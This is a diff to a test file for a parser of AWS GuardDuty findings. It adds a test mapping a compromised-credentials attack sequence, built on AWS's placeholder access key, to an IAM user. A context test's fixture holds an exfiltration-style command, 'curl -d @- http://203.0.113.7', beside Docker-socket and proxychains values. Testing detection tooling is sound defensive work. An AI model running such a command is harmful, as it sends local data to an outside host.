@@ -101,6 +101,12 @@ describe('guardduty', () => {
     expect(parsed.ok && parsed.value.findings).toMatchObject([{ issue_type: 'Tomorrow:EC2/Thing', issue_mapped: false, kind: 'detection' }]);
   });
 
+  it('knows the key of a sequence for its user’s', () => {
+    const resources = [{ uid: 'AKIAIOSFODNN7EXAMPLE', name: 'AKIAIOSFODNN7EXAMPLE', resourceType: 'ACCESS_KEY', accountId: account, region, data: { accessKey: { principalId: 'AIDAEXAMPLE', userName: 'alice', userType: 'IAMUser' } } }];
+    const parsed = guardduty.parse({ id: 'a', type: 'AttackSequence:IAM/CompromisedCredentials', accountId: account, region, service: { detection: { sequence: { uid: 'u', resources, signals: [] } } } }, at);
+    expect(parsed.ok && parsed.value.findings).toMatchObject([{ entity: `arn:aws:iam::${account}:user/alice`, entity_type: 'user', aliases: ['AKIAIOSFODNN7EXAMPLE'] }]);
+  });
+
   it('keeps what a process was seen to do', () => {
     const context = { commandLineExample: 'curl -d @- http://203.0.113.7', socketPath: '/var/run/docker.sock', toolName: 'proxychains', threatFilePath: '/tmp/x', addressFamily: 'AF_UNIX' };
     const parsed = guardduty.parse({ id: 'a', type: 'Execution:Runtime/SuspiciousTool', accountId: account, region, resource: { resourceType: 'Container', containerDetails: { name: null, image: 'shop/api:2' }, instanceDetails: { instanceId: 'i-0a1b2c3d4e5f60719' } }, service: { runtimeDetails: { process: { executablePath: '/usr/bin/curl' }, context } } }, at);
